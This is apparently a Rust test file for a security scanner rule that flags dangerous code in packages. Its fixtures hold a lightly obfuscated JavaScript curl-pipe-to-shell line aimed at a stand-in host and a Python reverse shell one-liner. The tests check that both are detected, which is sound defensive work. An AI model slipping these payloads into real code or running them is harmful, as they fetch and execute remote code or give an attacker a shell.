use super::*;

#[test]
fn dsca809_download_piped_to_shell_from_code() {
    let fixture = installs(
        "const { exec: run } = require('child_' + 'process');\nrun('curl -s https://x.example/a.sh | sh');\n",
    );
    let findings = fixture.code_findings("DSCA809");
    assert_yaml_snapshot!(findings);
    assert!(findings[0].severity >= Severity::High);
}

#[test]
fn dsca809_python_reverse_shell_script() {
    let fixture = library("").file(
        "tools/shell.py",
        b"import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.5',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n",
    );
    assert_eq!(
        fixture.code_findings("DSCA809")[0].severity,
        Severity::Critical
    );
}

#[test]
fn dsca809_plain_git_command_is_fine() {
    let fixture = installs("require('child_process').execSync('git rev-parse HEAD');\n");
    assert!(fixture.code_findings("DSCA809").is_empty());
}
